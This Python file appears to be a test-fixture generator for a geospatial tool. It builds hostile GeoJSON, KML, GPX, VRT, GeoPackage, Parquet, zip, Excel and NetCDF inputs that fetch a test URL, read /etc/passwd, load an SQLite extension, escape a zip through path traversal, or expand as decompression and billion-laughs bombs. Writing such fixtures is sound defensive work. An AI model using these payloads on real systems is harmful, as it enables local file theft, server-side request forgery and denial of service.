"""Files made to do harm: to fetch an address, to open another file, to run something, or to fill the memory.

`TRAPS` reach out of themselves; `{url}` in them is an address on which a test listens. `BOMBS` are small and unfold to
something large, deep or endless. Each entry is a function that writes its file into a folder and returns the path.
"""

from __future__ import annotations

import gzip
import io
import json
import sqlite3
import struct
import zipfile
import zlib
from collections.abc import Callable
from pathlib import Path
from typing import Any

import numpy as np

Maker = Callable[[Path, str], Path]
TRAPS: dict[str, Maker] = {}
BOMBS: dict[str, Maker] = {}

HEADER = "source,lat,lon,label\n"
POINT = {"type": "Point", "coordinates": [-72.3, 18.5]}
FEATURE = {"type": "Feature", "properties": {"label": "dry"}, "geometry": POINT}
COLLECTION = {"type": "FeatureCollection", "features": [FEATURE]}
VRT = (
    '<OGRVRTDataSource><OGRVRTLayer name="x"><SrcDataSource>/vsicurl/{url}/x.geojson</SrcDataSource></OGRVRTLayer>'
    "</OGRVRTDataSource>"
)
RASTER_VRT = (
    '<VRTDataset rasterXSize="9" rasterYSize="9"><VRTRasterBand dataType="Byte" band="1"><SimpleSource>'
    "<SourceFilename>/vsicurl/{url}/x.tif</SourceFilename></SimpleSource></VRTRasterBand></VRTDataset>"
)
GRIDS = "+proj=longlat +nadgrids=/etc/passwd"
WFS = "<OGRWFSDataSource><URL>{url}/wfs</URL></OGRWFSDataSource>"
KML = '<?xml version="1.0"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document>{inside}</Document></kml>'
PLACEMARK = "<Placemark><name>dry</name><Point><coordinates>-72.3,18.5</coordinates></Point></Placemark>"


def trap(name: str) -> Callable[[Maker], Maker]:
    return lambda make: TRAPS.setdefault(name, make)


def bomb(name: str) -> Callable[[Maker], Maker]:
    return lambda make: BOMBS.setdefault(name, make)


def text_trap(name: str, file: str, content: str) -> None:
    def make(folder: Path, url: str) -> Path:
        (folder / file).write_text(content.replace("{url}", url))
        return folder / file

    TRAPS[name] = make


def zipped(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return path


# Ways to make a reader fetch something, or run what it finds.
GDALG = {"type": "gdal_streamed_alg", "command_line": "gdal vector pipeline ! read {url}/x.geojson ! sql 'select 1'"}
text_trap("a GDAL command line in JSON", "g.json", json.dumps(GDALG))
text_trap("a GDAL command line called GeoJSON", "g.geojson", json.dumps(GDALG))
text_trap("a GDAL command line called GDALG", "g.gdalg.json", json.dumps(GDALG))
text_trap("a vector VRT", "v.vrt", VRT)
text_trap("a vector VRT called CSV", "v.csv", VRT)
text_trap("a vector VRT called KML", "v.kml", VRT)
text_trap("WFS behind a second root of KML", "w.kml", KML.replace("{inside}", PLACEMARK) + WFS)
text_trap("WFS in a comment before KML", "c.kml", f"<!-- {WFS} -->" + WFS)


def crs(kind: str, **properties: str) -> str:
    return json.dumps({**COLLECTION, "crs": {"type": kind, "properties": properties}})


text_trap("a link as the system of GeoJSON", "l.geojson", crs("link", href="{url}/crs", type="proj4"))
text_trap("an address as the system of GeoJSON", "n.geojson", crs("name", name="{url}/crs"))
text_trap("a grid file as the system of GeoJSON", "p.geojson", crs("name", name=GRIDS))
LINK = "<NetworkLink><Link><href>{url}/more.kml</href></Link></NetworkLink>"
text_trap("a network link in KML", "k.kml", KML.replace("{inside}", LINK))
DOCUMENT = f"<kml><Document>{PLACEMARK}</Document></kml>"
ENTITY = '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY x SYSTEM "{url}/secret">]>'
text_trap("an external entity in KML", "e.kml", ENTITY + DOCUMENT.replace("dry", "&x;"))
text_trap("an external document type in KML", "d.kml", '<!DOCTYPE kml SYSTEM "{url}/kml.dtd">' + DOCUMENT)
text_trap("a raster VRT", "r.vrt", RASTER_VRT)
text_trap(
    "a web map as XML", "m.xml", "<GDAL_WMS><Service name='TMS'><ServerUrl>{url}/</ServerUrl></Service></GDAL_WMS>"
)
SCHEMA = 'xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" xsi:schemaLocation="x {url}/x.xsd"'
text_trap("GML with a schema elsewhere", "g.gml", f"<FeatureCollection {SCHEMA}/>")
text_trap("TopoJSON", "t.json", '{"type": "Topology", "objects": {}, "arcs": [], "crs": "{url}"}')

GPX = '<?xml version="1.0"?><gpx xmlns="http://www.topografix.com/GPX/1/1">{inside}</gpx>'
WAYPOINT = '<wpt lat="18.5" lon="-72.3"><name>dry</name></wpt>'
GPX_ENTITY = ENTITY.replace("DOCTYPE kml", "DOCTYPE gpx")
text_trap("an external entity in GPX", "e.gpx", GPX_ENTITY + f"<gpx>{WAYPOINT.replace('dry', '&x;')}</gpx>")
text_trap("an external document type in GPX", "d.gpx", f'<!DOCTYPE gpx SYSTEM "{{url}}/x.dtd"><gpx>{WAYPOINT}</gpx>')
text_trap("a link in GPX", "l.gpx", GPX.replace("{inside}", '<metadata><link href="{url}/more.gpx"/></metadata>'))
PAGE = '<!DOCTYPE html SYSTEM "{url}/x.dtd"><html><head><link rel=File-List href="{url}/files.xml"><script src="{url}">'
text_trap("a web page that fetches", "p.xls", PAGE + '</script></head><body><img src="{url}/x.png"></body></html>')
text_trap("a workbook in frames", "f.xls", '<html><frameset><frame src="{url}/sheet1.htm"></frameset></html>')
text_trap(
    "TopoJSON that points elsewhere",
    "a.topojson",
    '{"type": "Topology", "objects": {"a": {"type": "Polygon", "arcs": [["{url}/arc"]]}}, "arcs": "{url}/arcs"}',
)


@trap("WFS in a zip file")
def _(folder: Path, url: str) -> Path:
    return zipped(folder / "w.zip", {"wfs.geojson": WFS.replace("{url}", url).encode()})


@trap("XML called GeoJSON in a zip file")
def _(folder: Path, url: str) -> Path:
    return zipped(folder / "x.zip", {"x.geojson": b"<?xml version='1.0'?><x><y/></x>"})


@trap("a vector VRT in a zip file")
def _(folder: Path, url: str) -> Path:
    return zipped(folder / "v.zip", {"v.kml": VRT.replace("{url}", url).encode()})


@trap("a GDAL command line in a zip file")
def _(folder: Path, url: str) -> Path:
    return zipped(folder / "g.zip", {"g.json": json.dumps(GDALG).replace("{url}", url).encode()})


@trap("paths that lead out of a zip file")
def _(folder: Path, url: str) -> Path:
    return zipped(folder / "p.zip", {"../../../owned.geojson": b"<x/>", "/etc/owned.geojson": b"<x/>"})


@trap("a Shapefile whose system names a grid file")
def _(folder: Path, url: str) -> Path:
    system = (
        'PROJCS["x",GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298]],PRIMEM["G",0],UNIT["degree",0.0174532925199433]],'
        'PROJECTION["Mercator_1SP"],UNIT["metre",1],EXTENSION["PROJ4","+proj=merc +nadgrids=/etc/passwd"]]'
    )
    return zipped(folder / "s.zip", {"s.shp": shp([(-72.3, 18.5)]), "s.prj": system.encode()})


def shp(points: list[tuple[float, float]]) -> bytes:
    records = b"".join(
        struct.pack(">2i", number, 10) + struct.pack("<i2d", 1, x, y) for number, (x, y) in enumerate(points, 1)
    )
    header = struct.pack(">7i", 9994, 0, 0, 0, 0, 0, (100 + len(records)) // 2) + struct.pack(
        "<2i8d", 1000, 1, *[0.0] * 8
    )
    return header + records


def geopackage(path: Path, layer: str = "reports", setup: str = "", blob: bytes | None = None, **about: str) -> Path:
    """A GeoPackage of one point, with whatever else the SQL in `setup` puts into it."""
    point = blob or b"GP\x00\x01" + struct.pack("<i", 4326) + struct.pack("<BIdd", 1, 1, -72.3, 18.5)
    database = sqlite3.connect(path)
    database.executescript(
        """PRAGMA page_size = 512;
        CREATE TABLE gpkg_contents (table_name TEXT, data_type TEXT, srs_id INTEGER);
        CREATE TABLE gpkg_geometry_columns (table_name TEXT, column_name TEXT, srs_id INTEGER);
        CREATE TABLE gpkg_spatial_ref_sys
            (srs_id INTEGER, organization TEXT, organization_coordsys_id INTEGER, definition TEXT);
        CREATE TABLE reports (fid INTEGER PRIMARY KEY, geom BLOB, label TEXT);"""
    )
    database.execute("INSERT INTO reports VALUES (1, ?, 'dry')", (point,))
    database.execute("INSERT INTO gpkg_contents VALUES (?, 'features', 4326)", (layer,))
    database.execute("INSERT INTO gpkg_geometry_columns VALUES (?, 'geom', 4326)", (layer,))
    organisation, definition = about.get("organisation", "EPSG"), about.get("definition", "")
    database.execute("INSERT INTO gpkg_spatial_ref_sys VALUES (4326, ?, 4326, ?)", (organisation, definition))
    database.executescript(setup)
    database.commit()
    database.close()
    return path


@trap("a GeoPackage whose layer is a view")
def _(folder: Path, url: str) -> Path:
    view = "CREATE VIEW v AS SELECT fid, geom, label || load_extension('/tmp/x.so') AS label FROM reports;"
    return geopackage(folder / "v.gpkg", "v", view)


@trap("a GeoPackage whose layer is a virtual table")
def _(folder: Path, url: str) -> Path:
    return geopackage(folder / "f.gpkg", "t", "CREATE VIRTUAL TABLE t USING fts3(geom, label);")


@trap("a GeoPackage whose columns are computed")
def _(folder: Path, url: str) -> Path:
    made = "CREATE TABLE c (fid INTEGER PRIMARY KEY, label TEXT, geom AS (zeroblob(900000000)));"
    made += "INSERT INTO c(label) VALUES ('dry');"
    return geopackage(folder / "c.gpkg", "c", made)


@trap("a GeoPackage whose system names a grid file")
def _(folder: Path, url: str) -> Path:
    system = (
        'GEOGCS["x",DATUM["x",SPHEROID["x",6378137,298],EXTENSION["PROJ4_GRIDS","/etc/passwd"]],PRIMEM["G",0],'
        f'UNIT["degree",0.0174532925199433],EXTENSION["PROJ4","{GRIDS}"]]'
    )
    return geopackage(folder / "s.gpkg", organisation="NONE", definition=system)


@trap("an SQLite database that is no GeoPackage")
def _(folder: Path, url: str) -> Path:
    database = sqlite3.connect(folder / "other.gpkg")
    database.executescript("CREATE TABLE api_key (role TEXT); INSERT INTO api_key VALUES ('reporter');")
    database.close()
    return folder / "other.gpkg"


def nested_wkb(levels: int = 200_000) -> bytes:
    return b"".join(struct.pack("<BII", 1, 7, 1) for _ in range(levels)) + struct.pack("<BIdd", 1, 1, 1.0, 2.0)


@bomb("collections in collections in a GeoPackage")
def _(folder: Path, url: str) -> Path:
    blob = b"GP\x00\x01" + struct.pack("<i", 4326) + nested_wkb()
    return geopackage(folder / "n.gpkg", blob=blob)


@bomb("pages of a GeoPackage that repeat each other")
def _(folder: Path, url: str) -> Path:
    """Five levels of a hundred pointers each to the same page below: ten thousand million rows in some kilobytes."""
    path = geopackage(folder / "m.gpkg")
    size = 512
    with sqlite3.connect(path) as database:
        (root,) = database.execute("SELECT rootpage FROM sqlite_master WHERE name = 'reports'").fetchone()
    database.close()
    content = bytearray(path.read_bytes())
    pages = len(content) // size
    leaf = bytes(content[(root - 1) * size : root * size])
    levels = 5
    below = [pages + 1 + level for level in range(levels)]  # the pages that each level points to; the last is the leaf

    def interior(child: int) -> bytes:
        cells = [struct.pack(">IB", child, 1 + number % 100) for number in range(60)]
        at, pointers, body = size, b"", b""
        for cell in cells:
            at -= len(cell)
            pointers += struct.pack(">H", at)
            body = cell + body
        head = struct.pack(">BHHHBI", 5, 0, len(cells), at, 0, child)
        return head + pointers + b"\x00" * (at - len(head) - len(pointers)) + body

    content[(root - 1) * size : root * size] = interior(below[0])
    for level in range(levels - 1):
        content += interior(below[level + 1])
    content += leaf
    content[28:32] = struct.pack(">I", len(content) // size)
    path.write_bytes(content)
    return path


def geoparquet(path: Path, columns: dict[str, object], *, groups: int = 1, **options: Any) -> Path:
    import pyarrow as pa
    import pyarrow.parquet as parquet

    about = {"version": "1.0.0", "primary_column": "geometry", "columns": {"geometry": {"encoding": "WKB"}}}
    table = pa.table(columns).replace_schema_metadata({"geo": json.dumps(about)})
    with parquet.ParquetWriter(path, table.schema, **options) as writer:
        for _ in range(groups):
            writer.write_table(table, row_group_size=len(table))
    return path


def repeated(value: object, count: int) -> object:
    import pyarrow as pa

    return pa.DictionaryArray.from_arrays(pa.array(np.zeros(count, dtype=np.int32)), pa.array([value]))


WKB_POINT = struct.pack("<BIdd", 1, 1, -72.3, 18.5)


@bomb("Parquet of many equal rows")
def _(folder: Path, url: str) -> Path:
    count = 1_000_000
    columns = {"geometry": repeated(WKB_POINT, count), "label": repeated("dry", count), "source": repeated("s", count)}
    return geoparquet(folder / "rows.parquet", columns, groups=10)


@bomb("Parquet of one long text many times")
def _(folder: Path, url: str) -> Path:
    count = 50_000
    columns = {
        "geometry": repeated(WKB_POINT, count),
        "label": repeated("dry", count),
        "text": repeated("x" * 2**20, count),
    }
    return geoparquet(folder / "text.parquet", columns, compression="zstd")


@bomb("Parquet of packed zeros")
def _(folder: Path, url: str) -> Path:
    import pyarrow as pa

    count = 100
    columns = {
        "geometry": pa.array([WKB_POINT] * count),
        "label": pa.array([f"{i}" + "0" * 2**20 for i in range(count)]),
    }
    return geoparquet(folder / "zeros.parquet", columns, use_dictionary=False, compression="zstd")


@bomb("Parquet of collections in collections")
def _(folder: Path, url: str) -> Path:
    import pyarrow as pa

    columns = {"geometry": pa.array([nested_wkb()]), "label": pa.array(["dry"])}
    return geoparquet(folder / "nested.parquet", columns, compression="zstd")


@bomb("a zip file of one line many times")
def _(folder: Path, url: str) -> Path:
    return zipped(folder / "ratio.zip", {"r.csv": HEADER.encode() + b"s,18.5,-72.3,dry\n" * 5_000_000})


@bomb("a zip file in a zip file")
def _(folder: Path, url: str) -> Path:
    inner = zipped(folder / "inner.zip", {"r.csv": b"0" * 50_000_000})
    return zipped(folder / "nested.zip", {"r.csv": inner.read_bytes()})


@bomb("a zip file whose entries overlap")
def _(folder: Path, url: str) -> Path:
    packed = zlib.compressobj(9, zlib.DEFLATED, -15)
    content = b"0" * 10_000_000
    body = packed.compress(content) + packed.flush()
    sums = (zlib.crc32(content), len(body), len(content))
    local = struct.pack("<4s5H3I2H", b"PK\x03\x04", 20, 0, 8, 0, 0, *sums, 5, 0) + b"r.csv" + body
    count = 6
    central = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\x01\x02", 20, 20, 0, 8, 0, 0, *sums, 5, 0, 0, 0, 0, 0, 0)
        + f"{i}.csv"[:5].encode()
        for i in range(count)
    )
    end = struct.pack("<4s4H2IH", b"PK\x05\x06", 0, 0, count, count, len(central), len(local), 0)
    (folder / "overlap.zip").write_bytes(local + central + end)
    return folder / "overlap.zip"


@bomb("a zip file that lies about its size")
def _(folder: Path, url: str) -> Path:
    path = zipped(
        folder / "lies.zip", {"r.geojson": b'{"type": "FeatureCollection", "features": [' + b" " * 150_000_000}
    )
    content = path.read_bytes()
    small, real = struct.pack("<I", 1000), struct.pack("<I", 150_000_043)
    path.write_bytes(content.replace(real, small))
    return path


@bomb("a zip file of very many files")
def _(folder: Path, url: str) -> Path:
    return zipped(folder / "many.zip", {f"{i}.csv": b"" for i in range(10_500)})


@bomb("an Excel workbook that unfolds")
def _(folder: Path, url: str) -> Path:
    sheet = b"<worksheet>" + b"<row/>" * 2_000_000
    return zipped(folder / "b.xlsx", {"[Content_Types].xml": b"<Types/>", "xl/worksheets/sheet1.xml": sheet})


@bomb("a gzip file of blank lines")
def _(folder: Path, url: str) -> Path:
    blanks = gzip.compress(b"\n" * 20_000_000, 9)
    (folder / "lines.csv.gz").write_bytes(gzip.compress(HEADER.encode()) + blanks * 20)
    return folder / "lines.csv.gz"


@bomb("a gzip file of blanks in GeoJSON")
def _(folder: Path, url: str) -> Path:
    blanks = gzip.compress(b" " * 50_000_000, 9)
    (folder / "blanks.geojson.gz").write_bytes(gzip.compress(b'{"type":') + blanks * 20)
    return folder / "blanks.geojson.gz"


@bomb("gzip in gzip")
def _(folder: Path, url: str) -> Path:
    (folder / "twice.gz").write_bytes(gzip.compress(gzip.compress(b"0" * 50_000_000, 9), 9))
    return folder / "twice.gz"


def entities(count: int, times: int) -> str:
    lines = [f'<!ENTITY a{i} "{f"&a{i - 1};" * times}">' for i in range(1, count)]
    return '<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a0 "ha">' + "".join(lines) + "]>"


@bomb("a billion laughs")
def _(folder: Path, url: str) -> Path:
    (folder / "laughs.kml").write_text(
        entities(12, 10) + f"<kml><Document><name>&a11;</name>{PLACEMARK}</Document></kml>"
    )
    return folder / "laughs.kml"


@bomb("one long entity many times")
def _(folder: Path, url: str) -> Path:
    start = f'<?xml version="1.0"?><!DOCTYPE kml [<!ENTITY a "{"x" * 100_000}">]>'
    (folder / "blowup.kml").write_text(
        f"{start}<kml><Document><name>{'&a;' * 100_000}</name>{PLACEMARK}</Document></kml>"
    )
    return folder / "blowup.kml"


@bomb("KML in folders in folders")
def _(folder: Path, url: str) -> Path:
    deep = 200_000
    (folder / "deep.kml").write_text(KML.replace("{inside}", "<Folder>" * deep + PLACEMARK + "</Folder>" * deep))
    return folder / "deep.kml"


@bomb("a billion laughs in GPX")
def _(folder: Path, url: str) -> Path:
    start = entities(12, 10).replace("DOCTYPE kml", "DOCTYPE gpx")
    (folder / "laughs.gpx").write_text(f"{start}<gpx>{WAYPOINT.replace('dry', '&a11;')}</gpx>")
    return folder / "laughs.gpx"


@bomb("GPX with extensions in extensions")
def _(folder: Path, url: str) -> Path:
    deep = "<extensions>" * 200_000 + "</extensions>" * 200_000
    (folder / "deep.gpx").write_text(GPX.replace("{inside}", f'<wpt lat="1" lon="2">{deep}</wpt>'))
    return folder / "deep.gpx"


@bomb("very many fields of one waypoint")
def _(folder: Path, url: str) -> Path:
    fields = "".join(f"<a{i}>x</a{i}>" for i in range(5_000))
    inside = f'<wpt lat="1" lon="2"><extensions>{fields}</extensions></wpt>'
    (folder / "wide.gpx").write_text(GPX.replace("{inside}", inside))
    return folder / "wide.gpx"


@bomb("a web page of opening brackets")
def _(folder: Path, url: str) -> Path:
    (folder / "open.xls").write_text("<table>" + "<" * 200_000 + "<a" * 100_000 + "<!--" * 50_000)
    return folder / "open.xls"


@bomb("cells that reach over very many columns")
def _(folder: Path, url: str) -> Path:
    (folder / "span.xls").write_text("<table><tr><td colspan=999999999>a<td>b<tr><td>1<td>2</table>")
    return folder / "span.xls"


@bomb("very many rows of cells that reach over many columns")
def _(folder: Path, url: str) -> Path:
    (folder / "spans.xls").write_text("<table>" + "<tr><td colspan=4000>a" * 3_000)
    return folder / "spans.xls"


@bomb("tables in tables")
def _(folder: Path, url: str) -> Path:
    (folder / "nested.xls").write_text("<table><tr><td>" * 100_000)
    return folder / "nested.xls"


@bomb("a topology of lists in lists")
def _(folder: Path, url: str) -> Path:
    (folder / "deep.topojson").write_text('{"type": "Topology", "objects": {"a": ' + "[" * 1_000_000)
    return folder / "deep.topojson"


@bomb("lists in lists in JSON")
def _(folder: Path, url: str) -> Path:
    (folder / "deep.geojson").write_text('{"type": "FeatureCollection", "features": ' + "[" * 1_000_000)
    return folder / "deep.geojson"


@bomb("a polygon of very many vertices")
def _(folder: Path, url: str) -> Path:
    ring = ",".join(["[1.5,2.5]"] * 300_000)
    shape = f'{{"type": "Polygon", "coordinates": [[{ring}]]}}'
    (folder / "vertices.geojson").write_text(
        f'{{"type": "Feature", "properties": {{"label": "dry"}}, "geometry": {shape}}}'
    )
    return folder / "vertices.geojson"


@bomb("a number of very many digits")
def _(folder: Path, url: str) -> Path:
    point = f'{{"type": "Point", "coordinates": [{"9" * 3_000_000}, 18.5]}}'
    (folder / "digits.geojson").write_text(
        f'{{"type": "Feature", "properties": {{"label": "dry"}}, "geometry": {point}}}'
    )
    return folder / "digits.geojson"


@bomb("features of ever new properties")
def _(folder: Path, url: str) -> Path:
    features = [{**FEATURE, "properties": {f"p{i}": 1, "label": "dry"}} for i in range(20_000)]
    (folder / "properties.geojson").write_text(json.dumps({**COLLECTION, "features": features}))
    return folder / "properties.geojson"


@bomb("a header of very many columns")
def _(folder: Path, url: str) -> Path:
    (folder / "wide.csv").write_text(HEADER.strip() + "," * 4_000_000 + "\ns,18.5,-72.3,dry\n")
    return folder / "wide.csv"


@bomb("a very long line")
def _(folder: Path, url: str) -> Path:
    (folder / "long.csv").write_text(HEADER + "s,18.5,-72.3," + "x" * 60_000_000)
    return folder / "long.csv"


@bomb("a quote that is never closed")
def _(folder: Path, url: str) -> Path:
    (folder / "quote.csv").write_text(HEADER + 's,18.5,-72.3,"dry\n' + "s,18.5,-72.3,dry\n" * 1_500_000)
    return folder / "quote.csv"


@bomb("coordinates that are no numbers")
def _(folder: Path, url: str) -> Path:
    rows = [
        f"s,{lat},{lon},dry\n" for lat in ("nan", "inf", "-inf", "1e400", "") for lon in ("NaN", "Infinity", "1e999")
    ]
    (folder / "nan.csv").write_text(HEADER + "".join(rows))
    return folder / "nan.csv"


@bomb("coordinates that are no numbers in GeoJSON")
def _(folder: Path, url: str) -> Path:
    places = ["[NaN, 1]", "[Infinity, 1]", "[1e999, -1e999]", "[null, null]", '["1", "2"]', "[]", "[[1, 2]]", "{}"]
    points = [
        f'{{"type": "Feature", "properties": {{"label": "dry"}}, "geometry": {{"type": "Point", "coordinates": {p}}}}}'
        for p in places
    ]
    (folder / "nan.geojson").write_text(f'{{"type": "FeatureCollection", "features": [{",".join(points)}]}}')
    return folder / "nan.geojson"


@bomb("votes without number")
def _(folder: Path, url: str) -> Path:
    rows = "".join(f"{i},t{i},100000,100000,100000,POINT (-72.3 18.5)\n" for i in range(2_000))
    (folder / "votes.csv").write_text("idx,task_id,0_count,1_count,2_count,geom\n" + rows)
    return folder / "votes.csv"


@bomb("collections in collections in text")
def _(folder: Path, url: str) -> Path:
    deep = 300_000
    shape = "GEOMETRYCOLLECTION(" * deep + "POINT (1 2)" + ")" * deep
    (folder / "nested.csv").write_text(f'idx,task_id,0_count,1_count,2_count,geom\n1,t1,1,1,1,"{shape}"\n')
    return folder / "nested.csv"


@bomb("a Shapefile of more vertices than bytes")
def _(folder: Path, url: str) -> Path:
    content = (
        struct.pack("<i", 5) + struct.pack("<4d", 0, 0, 1, 1) + struct.pack("<2i", 1, 2_000_000_000) + b"\x00" * 64
    )
    record = struct.pack(">2i", 1, len(content) // 2) + content
    return zipped(folder / "lies.zip", {"s.shp": shp([])[:100] + record})


def workbook(path: Path, change: Callable[[bytes], bytes]) -> Path:
    """An Excel workbook of one report whose sheet was changed."""
    import openpyxl

    book = openpyxl.Workbook()
    for row in (["source", "lat", "lon", "label"], ["ann", 18.5, -72.3, "dry"]):
        book.active.append(row)
    whole = io.BytesIO()
    book.save(whole)
    with zipfile.ZipFile(whole) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    name = "xl/worksheets/sheet1.xml"
    return zipped(path, {**members, name: change(members[name])})


@trap("an Excel workbook with an entity that fetches an address")
def _(folder: Path, url: str) -> Path:
    start = f'<!DOCTYPE x [<!ENTITY a SYSTEM "{url}/x">]>'.encode()
    return workbook(folder / "e.xlsx", lambda sheet: start + sheet.replace(b"ann", b"&a;"))


@bomb("an Excel workbook with one cell far down")
def _(folder: Path, url: str) -> Path:
    far = b'<row r="900000000"><c r="A900000000"><v>1</v></c></row></sheetData>'
    return workbook(folder / "f.xlsx", lambda sheet: sheet.replace(b"</sheetData>", far))


def png() -> bytes:
    out = io.BytesIO()
    from PIL import Image

    Image.new("1", (2, 2)).save(out, format="PNG")
    return out.getvalue()


@bomb("a picture")
def _(folder: Path, url: str) -> Path:
    (folder / "p.png").write_bytes(png())
    return folder / "p.png"


EVERY = {**TRAPS, **BOMBS}


# Maps, runs and masks: what `inspect` and `--mask` open.
MAPS: dict[str, Maker] = {}


def map_trap(name: str) -> Callable[[Maker], Maker]:
    return lambda make: MAPS.setdefault(name, make)


@map_trap("a raster VRT called TIFF")
def _(folder: Path, url: str) -> Path:
    (folder / "v.tif").write_text(RASTER_VRT.replace("{url}", url))
    return folder / "v.tif"


def tiff(path: Path, side: int = 8, **options: object) -> Path:
    import warnings

    import rasterio

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", rasterio.errors.NotGeoreferencedWarning)
        profile = {"driver": "GTiff", "width": side, "height": side, "count": 1, "dtype": "float32", **options}
        with rasterio.open(path, "w", **profile) as file:
            file.update_tags(CROWDFIELD_STATES='["dry"]')
            file.set_band_description(1, "probability_dry")
    return path


@map_trap("a GeoTIFF of a hundred thousand rows and columns")
def _(folder: Path, url: str) -> Path:
    return tiff(
        folder / "large.tif", 100_000, tiled=True, blockxsize=512, blockysize=512, sparse_ok=True, BIGTIFF="YES"
    )


@map_trap("a GeoTIFF of one block")
def _(folder: Path, url: str) -> Path:
    return tiff(folder / "block.tif", 5_000, blockysize=5_000, compress="deflate")


@map_trap("a GeoTIFF with overviews and notes elsewhere")
def _(folder: Path, url: str) -> Path:
    import rasterio

    path = tiff(folder / "o.tif", transform=rasterio.Affine(1, 0, 0, 0, -1, 0))
    with rasterio.open(path, "r+") as file:
        file.update_tags(ns="OVERVIEWS", OVERVIEW_FILE=f"/vsicurl/{url}/x.ovr")
    (folder / "o.tif.ovr").write_text(RASTER_VRT.replace("{url}", url))
    (folder / "o.tif.msk").write_text(RASTER_VRT.replace("{url}", url))
    return path


@map_trap("half a GeoTIFF")
def _(folder: Path, url: str) -> Path:
    content = tiff(folder / "whole.tif", 600, compress="deflate").read_bytes()
    (folder / "half.tif").write_bytes(content[: len(content) // 2])
    return folder / "half.tif"


@map_trap("a NetCDF file that links to another")
def _(folder: Path, url: str) -> Path:
    import h5py

    with h5py.File(folder / "l.nc", "w") as file:
        file.attrs["states"] = '["dry"]'
        file["probability"] = h5py.ExternalLink("/etc/passwd", "/x")
    return folder / "l.nc"


@map_trap("a NetCDF file whose data lie in another")
def _(folder: Path, url: str) -> Path:
    import h5py

    with h5py.File(folder / "e.nc", "w") as file:
        file.attrs["states"] = '["dry"]'
        file.create_dataset("probability", (1, 8, 8), dtype="u1", external=[("/etc/passwd", 0, 64)])
    return folder / "e.nc"


@map_trap("a NetCDF file of very many numbers")
def _(folder: Path, url: str) -> Path:
    import h5py

    with h5py.File(folder / "large.nc", "w") as file:
        file.attrs["states"] = '["dry"]'
        file.create_dataset("probability", (1, 2**20, 2**20), dtype="f8", chunks=(1, 512, 512), compression="gzip")
    return folder / "large.nc"


@map_trap("a run that unfolds")
def _(folder: Path, url: str) -> Path:
    about = json.dumps({"format": 1, "grid": {}, "settings": {}, "metadata": {}}).encode()
    return zipped(folder / "b.cf", {"run.json": about, "mask.npy": b"\x00" * 100_000_000})


@map_trap("a run whose arrays are larger than they are")
def _(folder: Path, url: str) -> Path:
    array = io.BytesIO()
    np.lib.format.write_array_header_1_0(array, {"descr": "<f8", "fortran_order": False, "shape": (10**12,)})
    about = json.dumps({"format": 1, "grid": {}, "settings": {}, "metadata": {}}).encode()
    return zipped(folder / "a.cf", {"run.json": about, "mask.npy": array.getvalue()})


@map_trap("a run with code in it")
def _(folder: Path, url: str) -> Path:
    array = io.BytesIO()
    np.save(array, np.array([{}], dtype=object), allow_pickle=True)
    about = json.dumps({"format": 1, "grid": {}, "settings": {}, "metadata": {}}).encode()
    return zipped(folder / "c.cf", {"run.json": about, "mask.npy": array.getvalue()})
